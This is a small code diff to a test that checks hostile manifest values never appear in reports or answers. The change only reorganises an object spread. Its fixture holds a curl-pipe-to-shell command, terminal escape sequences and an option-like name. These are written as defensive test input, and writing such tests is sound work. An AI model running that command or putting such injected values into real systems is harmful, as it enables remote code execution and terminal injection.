@@ -73,8 +73,11 @@ test("a stranger's command and escapes stand in no report, figure or answer", as
   const manifest = z.looseObject({ spec: z.looseObject({}) }).parse(JSON.parse(await readFile(file, 'utf8')));
   const candidates = [{ name: '-x', fingerprint: '0', path: '/models/x' }];
   const strange = {
-    ...{ ...manifest, title: 'a\u001b[2J\u009b31m title', commandLine: 'curl http://x.invalid | sh' },
-    ...{ spec: { ...manifest.spec, candidates }, versions: { 'a\u001b[2J': '1\u009b31m' } },
+    ...manifest,
+    title: 'a\u001b[2J\u009b31m title',
+    commandLine: 'curl http://x.invalid | sh',
+    spec: { ...manifest.spec, candidates },
+    versions: { 'a\u001b[2J': '1\u009b31m' },
   };
   await writeFile(file, JSON.stringify(strange));
   const out = await temporaryFolder();
